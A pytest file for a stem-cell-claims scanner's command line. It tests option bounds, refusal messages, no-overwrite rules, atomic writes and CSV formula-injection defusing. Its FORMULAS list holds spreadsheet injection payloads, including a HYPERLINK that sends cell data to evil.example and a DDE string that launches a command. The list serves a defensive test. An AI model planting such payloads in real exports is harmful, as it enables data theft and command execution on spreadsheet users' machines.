"""The command line against bad options and dangerous outputs: every refusal is one line on stderr and exit 2,
nothing unexpected ever shows a traceback, no output overwrites an input, and outputs are whole or absent.
"""

from __future__ import annotations

import io
import os
import shutil
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from detector.cli import app
from detector.guard import atomic_write
from detector.output.spreadsheet import spreadsheet_safe
from detector.output.table import write_table
from detector.output.views import claims_csv
from detector.source.crawl import Crawler
from detector.source.warc import WarcPage, iter_records, partial_path
from tests.conftest import CORPUS
from tests.sites import clinic_site, serve

RUNNER = CliRunner()
PAGE = CORPUS / "pages" / "pc-01.html"


def one_line_refusal(result, *words: str) -> None:  # noqa: ANN001
    assert result.exit_code == 2, (result.exit_code, result.output)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("stemcheck"), result.stderr
    assert "Traceback" not in result.output
    for word in words:
        assert word in lines[0], (word, lines[0])


# -- numbers ------------------------------------------------------------------------------------------------
BAD_NUMBERS = [
    (["scan", "{page}", "--delay", "-1"], "--delay -1"),
    (["scan", "{page}", "--max-pages", "0"], "--max-pages 0"),
    (["scan", "{page}", "--max-pages", "-5"], "--max-pages -5"),
    (["scan", "{page}", "--workers", "0"], "--workers 0"),
    (["scan", "{page}", "--top", "-1"], "--top -1"),
    (["scan", "{page}", "--delay", "nan"], "--delay nan"),
    (["scan", "{page}", "--delay", "inf"], "--delay inf"),
    (["check", "{page}", "--max-pages", "0"], "--max-pages 0"),
    (["check", "{page}", "--max-depth", "-1"], "--max-depth -1"),
    (["check", "http://127.0.0.1:1/", "--site", "--delay", "-0.5"], "--delay -0.5"),
    (["crawl", "http://127.0.0.1:1/", "-o", "{tmp}/x.warc.gz", "--delay", "-1"], "--delay -1"),
    (["crawl", "http://127.0.0.1:1/", "-o", "{tmp}/x.warc.gz", "--max-pages", "0"], "--max-pages 0"),
    (["serve", "--port", "99999"], "--port 99999"),
    (["serve", "--port", "-1"], "--port -1"),
    (["demo", "--top", "-3"], "--top -3"),
    (["history", "http://127.0.0.1:1/", "--max-snapshots", "0"], "--max-snapshots 0"),
    (["history", "http://127.0.0.1:1/", "--delay", "-1"], "--delay -1"),
]


@pytest.mark.parametrize("args,words", BAD_NUMBERS, ids=[" ".join(a[0:1] + a[-2:]) for a, _ in BAD_NUMBERS])
def test_numbers_out_of_bounds_are_one_line(tmp_path: Path, args: list[str], words: str) -> None:
    args = [a.format(page=PAGE, tmp=tmp_path) for a in args]
    one_line_refusal(RUNNER.invoke(app, args), words, "must be")


@pytest.mark.parametrize("args", [
    ["scan", "{urls}", "--delay", "0.1"],
    ["check", "http://127.0.0.1:1/", "--site", "--delay", "0.05"],
    ["crawl", "http://127.0.0.1:1/", "-o", "{tmp}/x.warc.gz", "--delay", "0"],
    ["history", "https://clinic.example/", "--delay", "0.1"],
], ids=["scan-url-list", "check-site", "crawl", "history"])
def test_an_impolite_delay_needs_allow_private(tmp_path: Path, args: list[str]) -> None:
    urls = tmp_path / "urls.txt"
    urls.write_text("http://127.0.0.1:1/\n")
    args = [a.format(urls=urls, tmp=tmp_path) for a in args]
    one_line_refusal(RUNNER.invoke(app, args), "impolite", "--allow-private")


@pytest.mark.parametrize("variable,value", [("STEMCHECK_CRAWL_DELAY", "-1"), ("STEMCHECK_CRAWL_MAX_PAGES", "0"),
                                            ("STEMCHECK_FETCH_TOTAL_TIMEOUT", "nan"),
                                            ("STEMCHECK_FETCH_ALLOWED_PORTS", "80,99999"),
                                            ("STEMCHECK_WEB_REQUESTS_PER_MINUTE", "0"),
                                            ("STEMCHECK_EXTRACT_MAX_HTML_BYTES", "lots"),
                                            ("STEMCHECK_ARCHIVE_MAX_SNAPSHOTS", "1")])
def test_a_bad_setting_names_its_variable(monkeypatch: pytest.MonkeyPatch, variable: str, value: str) -> None:
    monkeypatch.setenv(variable, value)
    one_line_refusal(RUNNER.invoke(app, ["check", str(PAGE)]), variable)


def test_every_numeric_setting_has_a_bound() -> None:
    import dataclasses

    from detector.bounds import SETTINGS
    from detector.settings import Settings

    for section in dataclasses.fields(Settings):
        for f in dataclasses.fields(section.default_factory()):  # type: ignore[misc]
            value = getattr(section.default_factory(), f.name)  # type: ignore[misc]
            if isinstance(value, int | float | tuple) and not isinstance(value, bool):
                key = f"{section.name}.{f.name}"
                assert key in SETTINGS, f"{key} has no bound in detector/bounds.py"
                for item in value if isinstance(value, tuple) else (value,):
                    SETTINGS[key].check(key, item)  # the default is inside its own bound


@pytest.mark.parametrize("ref", ["\u00b2", "\u0661", "-1", "1e3", "yesterday", "9999"])
def test_diff_with_a_bad_run_is_one_line(tmp_path: Path, ref: str) -> None:
    db = tmp_path / "s.sqlite"
    assert RUNNER.invoke(app, ["scan", str(PAGE), "--db", str(db)]).exit_code == 0
    one_line_refusal(RUNNER.invoke(app, ["diff", "--db", str(db), "--", ref]))


# -- anything unexpected ------------------------------------------------------------------------------------
def test_an_unexpected_error_is_one_line_with_a_log(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import tempfile

    import detector.output.report as report

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def boom(*_a: object, **_k: object) -> str:
        raise RuntimeError("a bug in the HTML report")

    monkeypatch.setattr(report, "to_html", boom)
    result = RUNNER.invoke(app, ["check", "--format", "html", str(PAGE)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    line = result.stderr.strip()
    assert "\n" not in line and line.startswith("stemcheck check: internal error on ")
    assert str(PAGE) in line and "RuntimeError: a bug in the HTML report" in line
    logs = list(tmp_path.glob("stemcheck-check-*.log"))
    assert len(logs) == 1 and str(logs[0]) in line
    text = logs[0].read_text()
    assert "Traceback" in text and "boom" in text and str(PAGE) in text


# -- outputs never clobber inputs ---------------------------------------------------------------------------
def _same_path(page: Path, tmp: Path) -> Path:
    return page


def _symlink(page: Path, tmp: Path) -> Path:
    link = tmp / "link.html"
    link.symlink_to(page)
    return link


def _hardlink(page: Path, tmp: Path) -> Path:
    link = tmp / "hard.html"
    os.link(page, link)
    return link


def _dotdot(page: Path, tmp: Path) -> Path:
    (tmp / "sub").mkdir()
    return tmp / "sub" / ".." / page.name


@pytest.mark.parametrize("alias", [_same_path, _symlink, _hardlink, _dotdot], ids=["same", "symlink", "hardlink",
                                                                                   "dot-dot"])
def test_check_output_never_overwrites_its_input(tmp_path: Path, alias) -> None:  # noqa: ANN001
    page = tmp_path / "page.html"
    shutil.copy(PAGE, page)
    before = page.read_bytes()
    out = alias(page, tmp_path)
    one_line_refusal(RUNNER.invoke(app, ["check", str(page), "--format", "html", "-o", str(out)]),
                     "also an input")
    assert page.read_bytes() == before


@pytest.mark.parametrize("case", ["csv-is-an-input", "csv-is-the-db", "sites-table-is-an-input"])
def test_scan_outputs_never_overwrite_inputs(tmp_path: Path, case: str) -> None:
    db = tmp_path / "store.csv"  # a results store with a table's name
    listed = tmp_path / "pages.sites.csv"
    if case == "csv-is-an-input":
        args = ["scan", str(PAGE), "-o", str(PAGE)]
        one_line_refusal(RUNNER.invoke(app, args), ".csv or .parquet")
        return
    if case == "csv-is-the-db":
        assert RUNNER.invoke(app, ["scan", str(PAGE), "--db", str(db)]).exit_code == 0
        before = db.read_bytes()
        one_line_refusal(RUNNER.invoke(app, ["scan", str(PAGE), "--db", str(db), "-o", str(db)]), "also an input")
        assert db.read_bytes() == before
        return
    listed.write_text("http://127.0.0.1:1/\n")
    one_line_refusal(RUNNER.invoke(app, ["scan", str(listed), "--allow-private", "-o", str(tmp_path / "pages.csv")]),
                     "also an input")


def test_crawl_never_overwrites_the_previous_crawl(tmp_path: Path) -> None:
    old = tmp_path / "a.warc.gz"
    old.write_bytes(b"the earlier crawl's evidence")
    one_line_refusal(RUNNER.invoke(app, ["crawl", "http://127.0.0.1:1/", "--allow-private", "--previous", str(old),
                                         "-o", str(old)]), "also an input")
    assert old.read_bytes() == b"the earlier crawl's evidence"
    link = tmp_path / "b.warc.gz"
    link.symlink_to(old)
    one_line_refusal(RUNNER.invoke(app, ["crawl", "http://127.0.0.1:1/", "--allow-private", "--previous", str(old),
                                         "-o", str(link)]), "also an input")


@pytest.mark.parametrize("output", ["{tmp}/nonexistent/x.html", "{tmp}", "/proc/version"],
                         ids=["missing-folder", "a-directory", "not-a-regular-file"])
def test_an_output_that_cannot_be_written_is_one_line(tmp_path: Path, output: str) -> None:
    one_line_refusal(RUNNER.invoke(app, ["check", str(PAGE), "--format", "html", "-o", output.format(tmp=tmp_path)]))


# -- outputs are whole or absent ----------------------------------------------------------------------------
def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "report.html"
    target.write_text("the old report")
    with pytest.raises(RuntimeError), atomic_write(target, "w", encoding="utf-8") as fh:
        fh.write("half of a new rep")
        raise RuntimeError("killed mid-write")
    assert target.read_text() == "the old report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_table_write_that_fails_midway_leaves_the_old_table(tmp_path: Path, suffix: str,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / f"pages{suffix}"
    target.write_bytes(b"old table")
    frame = pd.DataFrame({"url": ["a", "b"], "risk_score": [1, 2]})
    method = "to_parquet" if suffix == ".parquet" else "to_csv"
    real = getattr(pd.DataFrame, method)

    def half(self: pd.DataFrame, fh, *args: object, **kwargs: object) -> None:  # noqa: ANN001
        real(self, fh, *args, **kwargs)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, method, half)
    with pytest.raises(Exception, match="disk is full"):
        write_table(frame, target)
    assert target.read_bytes() == b"old table"
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]


def test_a_killed_crawl_leaves_a_partial_warc_never_a_complete_one(tmp_path: Path) -> None:
    site = clinic_site({"/a": "pc-01.html", "/b": "pc-02.html", "/c": "pc-03.html"})
    final = tmp_path / "site.warc.gz"
    final.write_bytes(b"an earlier crawl of the same name")
    calls = []

    class Killed(Crawler):
        def _request(self, url, result, **kwargs):  # noqa: ANN001, ANN003, ANN202
            calls.append(url)
            if len(calls) == 4:
                raise KeyboardInterrupt  # as Ctrl-C or a kill in the middle of the crawl
            return super()._request(url, result, **kwargs)

    from tests.test_crawl import FAST as SETTINGS

    with serve(site) as (base, _log), pytest.raises(KeyboardInterrupt):
        Killed(SETTINGS, allow_private=True).crawl(base + "/", final)
    assert final.read_bytes() == b"an earlier crawl of the same name", "the old file is untouched"
    partial = partial_path(final)
    pages = [i for i in iter_records(partial) if isinstance(i, WarcPage)]
    assert pages, "what was fetched is kept and readable"
    with serve(site) as (base, _log):
        Crawler(SETTINGS, allow_private=True).crawl(base + "/", final)
    assert not partial.exists() and final.read_bytes()[:2] == b"\x1f\x8b", "a finished crawl takes the name"


def test_scans_of_a_url_list_never_overwrite_each_others_warcs(tmp_path: Path) -> None:
    from detector.batch.runner import Scanner, ScanOptions

    listed = tmp_path / "urls.txt"
    with serve(clinic_site({"/a": "pc-01.html"})) as (base, _log):
        listed.write_text(f"{base}/a\n")
        for _ in range(2):
            Scanner(options=ScanOptions(delay=0.0, allow_private=True, max_depth=0),
                    warc_dir=tmp_path / "warcs").run([listed])
    assert len(list((tmp_path / "warcs").glob("*.warc.gz"))) == 2


# -- CSV formula injection -------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0"]


def _hostile_site_warc(path: Path, title: str) -> None:
    body = (f"<html><head><title>{title}</title></head><body><h1>{title}</h1><p>Our stem cell therapy cures "
            "arthritis, guaranteed, with no side effects.</p></body></html>").encode()
    with path.open("wb") as fh:
        w = WARCWriter(fh, gzip=True)
        http = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
        w.write_record(w.create_warc_record("http://clinic.example/", "response", payload=io.BytesIO(body),
                                            http_headers=http))


@pytest.mark.parametrize("formula", FORMULAS)
def test_scan_csv_cells_never_run_as_formulas(tmp_path: Path, formula: str) -> None:
    warc = tmp_path / "site.warc.gz"
    _hostile_site_warc(warc, formula)
    out = tmp_path / "pages.csv"
    assert RUNNER.invoke(app, ["scan", str(warc), "-o", str(out)]).exit_code == 0
    for path in (out, tmp_path / "pages.sites.csv"):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for value in frame.to_numpy().ravel():
            assert not value or value[0] not in "=+-@\t\r", (path.name, value)
    titles = pd.read_csv(out, dtype=str, keep_default_na=False)["title"]
    assert titles[0].startswith("'") and formula.strip()[:5] in titles[0], "defused, not dropped"


@pytest.mark.parametrize("value", [*FORMULAS, "plain", "", "caf\u00e9 = fine", "'quoted"])
def test_web_export_and_tables_share_one_rule(value: str) -> None:
    view = {"groups": [{"claims": [{"url": value, "text": "t", "kind": "k", "cats": [], "context": [],
                                    "record_id": ""}]}]}
    exported = pd.read_csv(io.StringIO(claims_csv(view)), dtype=str, keep_default_na=False)["url"][0]
    assert exported == spreadsheet_safe(value)
